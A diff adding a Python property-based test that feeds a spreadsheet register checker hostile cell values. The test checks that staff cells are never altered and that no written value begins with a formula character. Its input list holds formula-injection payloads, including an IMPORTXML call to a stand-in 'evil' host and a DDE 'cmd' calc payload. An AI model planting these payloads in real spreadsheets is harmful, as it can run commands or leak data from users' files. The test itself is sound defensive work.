@@ -1,0 +1,76 @@
+"""A register full of hostile input: the check never crashes and never changes a staff cell.
+
+Cell contents come from hypothesis: formulas, spreadsheet error values, huge text, control
+characters, numbers in text columns, dates in text columns, blanks where a merged cell hides
+a value (a values-only read gives None there), and garbage in the toolkit's own columns.
+"""
+
+from __future__ import annotations
+
+import copy
+import datetime as dt
+
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from automation.check import run_check
+from automation.config import default_config
+from automation.findings import CATALOGUE
+from sheets.layout import REQUESTS
+from sheets.memory import MemoryBackend
+from tests.register_factory import backend
+
+HOSTILE_TEXT = st.sampled_from([
+    "=IMPORTXML(\"http://evil\",\"//a\")", "=1+1", "+SUM(A1:A9)", "-cmd|' /C calc'!A0", "@SUM(1)", "#REF!", "#N/A",
+    "#VALUE!", "#DIV/0!", "\x00\x01\x02", "a\tb\nc\r\nd", "\u202eevil", "  ", "'", "Ya", "Tidak", "Ditolak",
+    "Dikecualikan Pasal 17 huruf h", "Perorangan", "Badan Hukum", "Kelompok Orang", "Tahapan Pemilu/Pemilihan",
+    "31-02-2026", "27/11/26", "27 Nopember 2026", "2026-11-27", "0", "1e308", "-5", "Rp 5.000", "NaN",
+    "x" * 40_000, "ğüß 日本 🙂", "1503014101900001", "DIK-01", "99:99",
+])
+CELL = st.one_of(
+    st.none(),
+    HOSTILE_TEXT,
+    st.text(max_size=80),
+    st.integers(min_value=-(10**18), max_value=10**18),
+    st.floats(allow_infinity=False),  # NaN yes; a spreadsheet cell cannot hold infinity
+    st.booleans(),
+    st.dates(min_value=dt.date(1900, 1, 1), max_value=dt.date(2100, 12, 31)),
+    st.datetimes(min_value=dt.datetime(1900, 1, 1), max_value=dt.datetime(2100, 12, 31)),
+    st.times(),
+)
+ROW = st.lists(CELL, min_size=len(REQUESTS.columns), max_size=len(REQUESTS.columns))
+NUMBER = REQUESTS.headers.index("No. Pendaftaran")
+
+
+def _staff(grid: list[list]) -> list[list]:
+    keep = [i for i, c in enumerate(REQUESTS.columns) if not c.is_toolkit]
+    return [[r[i] if i < len(r) else None for i in keep] for r in grid[1:]]
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+@given(rows=st.lists(ROW, min_size=1, max_size=6), today=st.dates(dt.date(2024, 1, 1), dt.date(2026, 12, 31)))
+def test_hostile_register(rows: list[list], today: dt.date) -> None:
+    b: MemoryBackend = backend(*rows)
+    before = copy.deepcopy(b.tabs[REQUESTS.name])
+    snap = b.read()
+    result = run_check(snap, default_config(), today, dt.datetime.combine(today, dt.time(7, 30)))
+    b.write(snap, result.changes)
+    after = b.tabs[REQUESTS.name]
+    for old, new in zip(_staff(before), _staff(after)):
+        staff_number = [i for i, c in enumerate(REQUESTS.columns) if not c.is_toolkit].index(NUMBER)
+        for i, (x, y) in enumerate(zip(old, new)):
+            if i == staff_number and (x is None or (isinstance(x, str) and not x.strip())):
+                continue  # a blank registration number may be filled, once
+            assert x is y or x == y or (x != x and y != y), (i, x, y)
+    for f in result.findings:
+        kind = CATALOGUE[f.code]
+        assert f.message.startswith(f"Baris {f.row}") or f.row == 0
+        assert f.message.endswith(kind.fix)
+        assert "None" not in f.message and "Traceback" not in f.message
+    for c in result.changes.cells:
+        col = REQUESTS.by_header()[c.header.casefold()]
+        assert col.is_toolkit or col.fill_blank
+        assert not (isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")) and col.key != "findings")
+    # a second run on the result writes no cell
+    again = run_check(b.read(), default_config(), today, dt.datetime.combine(today, dt.time(9, 0)))
+    assert again.changes.cells == []
